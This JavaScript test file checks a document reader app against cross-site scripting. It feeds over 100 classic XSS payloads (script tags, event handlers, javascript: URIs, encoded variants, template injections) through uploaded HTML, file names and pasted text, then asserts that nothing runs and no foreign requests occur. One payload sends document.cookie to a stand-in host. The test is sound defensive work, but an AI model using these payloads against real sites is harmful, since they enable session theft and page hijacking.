// 100+ script-injection payloads (classic cheat-sheet vectors) placed in
// text files, HTML files (body, title, meta og:*, JSON-LD, bylines, links),
// file names and pasted text. Every view is visited and every link hovered:
// nothing runs (no dialog, no window.__pwned, no error), nothing that could
// execute is in the page, every href is http(s), and the whole session
// requests only the page's own files.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { dropMany, waitForCount } from './page-probe.mjs';
import { openPage, screenshot, showView } from './util.mjs';

const P = (tag) => `window.__pwned='${tag}'`;
/** Each payload tries to set window.__pwned (and some to alert or fetch). */
const PAYLOADS = [
  `<script>${P('s1')}</script>`,
  `<script src="http://example.invalid/x.js"></script>`,
  `<SCRIPT>${P('s2')}</SCRIPT>`,
  `<scr<script>ipt>${P('s3')}</scr</script>ipt>`,
  `<script>alert(1)</script>`,
  `<script type="module">${P('s4')}</script>`,
  `"><script>${P('s5')}</script>`,
  `'><script>${P('s6')}</script>`,
  `</title><script>${P('s7')}</script>`,
  `</textarea><script>${P('s8')}</script>`,
  `<img src=x onerror="${P('i1')}">`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC=x OnErRoR=${P('i2')}>`,
  `<img src="javascript:${P('i3')}">`,
  `<img/src/onerror=${P('i4')}>`,
  `<img src=x:x onerror=eval(atob('d2luZG93Ll9fcHduZWQ9J2k1Jw=='))>`,
  `<image src=x onerror=${P('i6')}>`,
  `<svg onload=${P('v1')}>`,
  `<svg><script>${P('v2')}</script></svg>`,
  `<svg><animate onbegin=${P('v3')} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${P('v4')}"><text x=20 y=20>click</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${P('v5')}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=onload to=${P('v6')}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${P('m1')}>`,
  `<math href="javascript:${P('m2')}">click</math>`,
  `<body onload=${P('b1')}>`,
  `<body onpageshow=${P('b2')}>`,
  `<iframe src="javascript:parent.${P('f1')}"></iframe>`,
  `<iframe srcdoc="<script>parent.${P('f2')}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${P('f3')}</script>"></iframe>`,
  `<frameset onload=${P('f4')}>`,
  `<object data="javascript:${P('o1')}"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0nbzInPC9zY3JpcHQ+"></object>`,
  `<embed src="javascript:${P('e1')}">`,
  `<embed src="data:image/svg+xml,<svg onload=parent.${P('e2')}>">`,
  `<a href="javascript:${P('a1')}">link</a>`,
  `<a href="JaVaScRiPt:${P('a2')}">link</a>`,
  `<a href="  javascript:${P('a3')}">link</a>`,
  `<a href="java&#x09;script:${P('a4')}">link</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${P('a5')}">link</a>`,
  `<a href="data:text/html,<script>${P('a6')}</script>">link</a>`,
  `<a href="vbscript:msgbox(1)">link</a>`,
  `<a href="http://example.invalid/" onmouseover="${P('a7')}">hover</a>`,
  `<a href="http://example.invalid/" onclick="${P('a8')}">click</a>`,
  `<a href=javascript&colon;${P('a9')}>link</a>`,
  `javascript:${P('a10')}`,
  `<div onmouseover="${P('d1')}">hover me</div>`,
  `<div onclick="${P('d2')}">click me</div>`,
  `<div style="width:expression(${P('d3')})">old IE</div>`,
  `<div style="background:url('javascript:${P('d4')}')">bg</div>`,
  `<div style="background-image:url(http://example.invalid/bg.png)">bg</div>`,
  `<p onfocus=${P('d5')} tabindex=1 autofocus>focus</p>`,
  `<input autofocus onfocus=${P('n1')}>`,
  `<input type=image src=x onerror=${P('n2')}>`,
  `<select autofocus onfocus=${P('n3')}>`,
  `<textarea autofocus onfocus=${P('n4')}>`,
  `<keygen autofocus onfocus=${P('n5')}>`,
  `<button onclick=${P('n6')}>press</button>`,
  `<form action="javascript:${P('n7')}"><button>go</button></form>`,
  `<form><button formaction="javascript:${P('n8')}">go</button></form>`,
  `<isindex action="javascript:${P('n9')}" type=image>`,
  `<details open ontoggle=${P('t1')}>`,
  `<video><source onerror="${P('t2')}"></video>`,
  `<audio src=x onerror=${P('t3')}>`,
  `<video poster="javascript:${P('t4')}">`,
  `<marquee onstart=${P('t5')}>scroll</marquee>`,
  `<template><script>${P('t6')}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${P('t7')}>">`,
  `<style>@import 'http://example.invalid/x.css';</style>`,
  `<style>body{background:url("javascript:${P('c1')}")}</style>`,
  `<link rel=stylesheet href="http://example.invalid/x.css">`,
  `<link rel=import href="http://example.invalid/x.html">`,
  `<link rel=prefetch href="http://example.invalid/prefetch">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${P('r1')}">`,
  `<meta http-equiv="refresh" content="0;url=http://example.invalid/r">`,
  `<meta http-equiv="set-cookie" content="pwned=1">`,
  `<base href="http://example.invalid/">`,
  `<base href="javascript:/">`,
  `<xss style="behavior:url(x.htc)">`,
  `<table background="javascript:${P('x1')}">`,
  `<td background="http://example.invalid/td.png">`,
  `<bgsound src="javascript:${P('x2')}">`,
  `<applet code="x.class"></applet>`,
  `<portal src="http://example.invalid/portal"></portal>`,
  `<script>fetch('http://example.invalid/steal?c='+document.cookie)</script>`,
  `<img src="http://example.invalid/pixel.gif" width=1 height=1>`,
  `<img srcset="http://example.invalid/a.png 1x">`,
  `<picture><source srcset="http://example.invalid/b.png"></picture>`,
  `<video src="http://example.invalid/v.mp4" autoplay></video>`,
  `<iframe src="http://example.invalid/frame"></iframe>`,
  `&lt;script&gt;${P('h1')}&lt;/script&gt;`,
  `&#60;script&#62;${P('h2')}&#60;/script&#62;`,
  `\\x3cscript\\x3e${P('h3')}\\x3c/script\\x3e`,
  `\\u003cscript\\u003e${P('h4')}\\u003c/script\\u003e`,
  `%3Cscript%3E${P('h5')}%3C/script%3E`,
  `＜script＞${P('h6')}＜/script＞`,
  `<scr\u0000ipt>${P('h7')}</scr\u0000ipt>`,
  `<img src=x onerror=&#119;&#105;&#110;&#100;&#111;&#119;.__pwned='h8'>`,
  `<img src=x onerror="&#x77;indow.__pwned='h9'">`,
  `<img """><script>${P('k1')}</script>">`,
  `<img src=x onerror=${P('k2')}//`,
  `<<script>${P('k3')}//<</script>`,
  `<script ${P('k4')}>`,
  `<!--<img src="--><img src=x onerror=${P('k5')}//">`,
  `<![CDATA[<script>${P('k6')}</script>]]>`,
  `<?xml version="1.0"?><script>${P('k7')}</script>`,
  `<a href="#" onclick="${P('k8')}"`,
  `{{constructor.constructor('${P('g1')}')()}}`,
  `\${${P('g2')}}`,
  `<div data-bind="${P('g3')}"></div>`,
  `<a href="https://harborherald.example/ok">a safe link</a>`,
];

/** Attacks in file names (no slashes: a name keeps only its last path component). */
const NAME_PAYLOADS = [
  `<img src=x onerror=${P('fn1')}>.txt`,
  `<script>${P('fn2')}.html`,
  `"><svg onload=${P('fn3')}>.txt`,
  `javascript:${P('fn4')}.txt`,
  `<a href=javascript:${P('fn5')}>x.txt`,
];

/** An HTML page carrying payloads in its title, og:* and meta fields, JSON-LD, byline, body and links. */
function attackPage(payloads, i) {
  const attr = (s) => s.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  const json = JSON.stringify({
    '@context': 'https://schema.org',
    '@type': 'NewsArticle',
    headline: payloads[0],
    author: { '@type': 'Person', name: payloads[1] },
    publisher: { '@type': 'Organization', name: payloads[2] },
    datePublished: '2024-03-10',
    description: payloads[3],
    url: `javascript:${P('ld')}`,
  }).replaceAll('</', '<\\/');
  return `<!doctype html><html><head><title>${payloads[0]} Velmora harbor ${i}</title>
<meta property="og:title" content="${attr(payloads[1])}">
<meta property="og:site_name" content="${attr(payloads[2])}">
<meta property="og:url" content="javascript:${P('og')}">
<meta name="author" content="${attr(payloads[3])}">
<meta name="description" content="${attr(payloads.join(' '))}">
<script type="application/ld+json">${json}</script>
</head><body><article><h1>Velmora harbor reopens ${i}</h1>
<p class="byline">By ${payloads[4] ?? payloads[0]}</p>
<p>Mayor Ingrid Solberg said on Monday that the harbor reopened. ${payloads.join(' ')}</p>
<p>"We are back," Solberg said. <a href="${attr(payloads[0])}">source</a> <a href="javascript:${P('href')}">more</a></p>
</article></body></html>`;
}

let session;
before(async () => {
  session = await openPage();
});
after(() => session?.close());

test(`must carry ${PAYLOADS.length} payloads through every input as text`, async () => {
  assert.ok(PAYLOADS.length >= 100, `${PAYLOADS.length} payloads`);
  const { page } = session;
  const chunks = [];
  for (let i = 0; i < PAYLOADS.length; i += 8) chunks.push(PAYLOADS.slice(i, i + 8));
  const files = [
    ...chunks.map((c, i) => ({ name: `attack-${i}.html`, type: 'text/html', text: attackPage(c, i) })),
    { name: 'attack-all.txt', type: 'text/plain', text: `Mayor Ingrid Solberg of Velmora said:\n\n${PAYLOADS.join('\n\n')}\n` },
    ...NAME_PAYLOADS.map((name) => ({ name, type: 'text/plain', text: `Henrik Dahlgren said on Tuesday in Velmora: ${name}\n` })),
  ];
  await dropMany(page, files);
  await waitForCount(page, files.length, 120_000);
  // Pasted text, through the paste box.
  await page.click('details.paste summary');
  await page.fill('#paste-box', `Zoë Ångström-Lind said in Velmora on Friday:\n${PAYLOADS.join('\n')}`);
  await page.click('#paste-button');
  await waitForCount(page, files.length + 1, 120_000);
  const names = await page.$$eval('#document-list .document-name', (n) => n.map((x) => x.textContent));
  for (const name of NAME_PAYLOADS) assert.ok(names.includes(name), `file name ${name} not shown as text: ${names.join(' | ')}`);
});

test('must run nothing while every view, document, entity and link is visited', async () => {
  const { page, dialogs, errors } = session;
  const count = await page.locator('#document-list > li.document').count();
  for (let i = 0; i < count; i += 1) {
    await page.click(`#document-list > li.document:nth-child(${i + 1}) .document-button`);
    for (const summary of await page.$$('#reader-meta details summary')) await summary.click();
    for (const link of await page.$$('#reader a, #reader-meta a')) await link.hover();
    await page.mouse.move(400, 400);
  }
  const tabs = await page.$$eval('#view-tabs [role="tab"]', (t) => t.map((x) => x.id.replace('tab-', '')));
  for (const view of tabs) {
    await showView(page, view);
    for (const link of await page.$$(`#panel-${view} a`)) await link.hover();
  }
  // Entity pages: the first few entities, opened from the table.
  await showView(page, 'entities');
  // (The table is rebuilt on each open: found again by position each time.)
  const entityCount = Math.min(8, await page.locator('#entity-body .entity-name').count());
  assert.ok(entityCount > 0);
  for (let k = 0; k < entityCount; k += 1) {
    await page.locator('#entity-body .entity-name').nth(k).click();
    await page.waitForSelector('#entity-page .entity-title');
    for (const link of await page.$$('#entity-page a')) await link.hover();
  }
  await showView(page, 'reader');
  await screenshot(page, 'hostile-xss');
  assert.deepEqual(dialogs, []);
  assert.deepEqual(errors, []);
  assert.equal(await page.evaluate(() => typeof window.__pwned), 'undefined');
});

test('must hold no element that could execute, and only http(s) links', async () => {
  const { page } = session;
  const tags = await page.$$eval('body *', (nodes) => [...new Set(nodes.map((n) => n.tagName.toLowerCase()))]);
  for (const tag of ['script', 'iframe', 'object', 'embed', 'img', 'image', 'video', 'audio', 'source', 'style', 'link', 'meta', 'base', 'form', 'frameset', 'frame', 'math', 'template', 'portal', 'applet', 'marquee', 'foreignobject']) {
    assert.ok(!tags.includes(tag), `<${tag}> in the page body`);
  }
  const handlers = await page.$$eval('body *', (nodes) =>
    nodes.flatMap((n) => [...n.attributes].filter((a) => /^on/i.test(a.name) || /^(srcdoc|formaction|xlink:href)$/i.test(a.name)).map((a) => `${n.tagName}[${a.name}]`)),
  );
  assert.deepEqual(handlers, []);
  const hrefs = await page.$$eval('[href]', (nodes) => nodes.map((n) => n.getAttribute('href')));
  const inBody = await page.$$eval('body [href]', (nodes) => nodes.map((n) => n.getAttribute('href')));
  for (const href of inBody) assert.match(href, /^https?:\/\//, `href ${href}`);
  assert.ok(hrefs.length >= inBody.length);
  const styled = await page.$$eval('body [style]', (nodes) => nodes.map((n) => n.getAttribute('style')).filter((s) => /url\(|expression/i.test(s)));
  assert.deepEqual(styled, []);
});

test('must make no request beyond the page\'s own files during the whole session', async () => {
  const { requests, origin } = session;
  assert.ok(requests.length > 0);
  const foreign = requests.filter((url) => !url.startsWith(`${origin}/`));
  assert.deepEqual(foreign, []);
  console.log(`[hostile] ${requests.length} requests, all to ${origin}: ${[...new Set(requests.map((u) => new URL(u).pathname))].join(' ')}`);
});
